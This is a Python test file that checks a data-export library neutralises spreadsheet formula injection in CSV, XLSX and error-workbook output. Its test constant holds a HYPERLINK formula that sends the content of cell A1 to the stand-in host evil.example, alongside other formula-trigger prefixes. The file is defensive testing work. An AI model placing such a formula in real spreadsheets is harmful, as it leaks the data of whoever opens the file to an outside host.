"""Formula injection (issue 12 item 7): text that a spreadsheet would run is neutralised in every export."""

from __future__ import annotations

import zipfile

import pyarrow as pa
import pytest

from jingzhun.cells import is_risky, safe_cell
from jingzhun.exchange.export import write_csv, write_xlsx
from jingzhun.exchange.issues import ImportIssue
from jingzhun.exchange.errorbook import error_workbook
from jingzhun.exchange.readers import read_sources

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


@pytest.mark.parametrize("value", [HOSTILE, "+SUM(A1)", "-2+3", "@cmd", "\tx", "\rx"])
def test_formula_looking_text_gets_an_apostrophe(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-500.00", "+86", "-.5", "1e5", "王建国", "0359-6521234", ""])
def test_numbers_and_plain_text_stay_as_they_are(value):
    assert not is_risky(value) and safe_cell(value) == value


def _tables():
    return {"户表": pa.table({"户主姓名": [HOSTILE, "王建国"], "生产经营性支出": ["-500.00", "12.50"]})}


def test_csv_export_neutralises_formulas_and_reads_back_unchanged(tmp_path):
    (path,) = write_csv(_tables(), tmp_path)
    text = path.read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK(" in text and '"=HYPERLINK' not in text.replace("'=", "")
    assert "-500.00" in text and "'-500.00" not in text
    sheets, _issues = read_sources([path])
    assert sheets["户表"].table.column("户主姓名").to_pylist() == [HOSTILE, "王建国"]


def test_xlsx_export_writes_formula_looking_text_as_a_quoted_string_not_a_formula(tmp_path):
    path = write_xlsx(_tables(), tmp_path / "out.xlsx")
    with zipfile.ZipFile(path) as zf:
        sheet = zf.read("xl/worksheets/sheet1.xml").decode()
        styles = zf.read("xl/styles.xml").decode()
    assert "<f>" not in sheet and "HYPERLINK" in sheet  # a string cell, never a formula
    assert 'quotePrefix="1"' in styles  # and Excel keeps it text when the cell is edited
    sheets, _issues = read_sources([path])
    assert sheets["户表"].table.column("户主姓名").to_pylist() == [HOSTILE, "王建国"]


def test_error_workbook_quotes_the_hostile_value(tmp_path):
    issue = ImportIssue("户表.csv", "户表", 2, "户主姓名", HOSTILE, "示例")
    error_workbook([issue], {}, tmp_path / "errors.xlsx")
    with zipfile.ZipFile(tmp_path / "errors.xlsx") as zf:
        assert "<f>" not in zf.read("xl/worksheets/sheet1.xml").decode()
        assert 'quotePrefix="1"' in zf.read("xl/styles.xml").decode()
